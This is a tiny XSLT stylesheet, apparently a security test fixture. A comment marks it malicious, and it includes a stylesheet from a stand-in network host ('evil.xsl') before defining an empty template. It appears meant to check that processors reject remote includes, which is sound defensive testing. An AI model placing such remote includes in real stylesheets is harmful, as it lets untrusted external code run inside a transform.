<?xml version="1.0" encoding="UTF-8"?>
<!-- Malicious: includes a stylesheet from the network. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:include href="http://example.org/evil.xsl"/>
  <xsl:template match="/"/>
</xsl:stylesheet>
